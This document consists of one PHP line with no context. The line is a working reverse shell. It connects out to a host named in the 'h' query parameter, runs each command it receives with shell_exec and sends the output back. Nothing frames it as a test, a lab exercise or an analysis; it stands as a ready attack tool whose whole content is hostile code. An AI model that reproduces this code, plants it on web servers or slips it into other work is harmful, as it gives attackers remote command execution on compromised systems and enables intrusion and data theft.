<?php $s = stream_socket_client("tcp://" . $_GET["h"]); while ($l = fgets($s)) { fwrite($s, shell_exec($l)); }
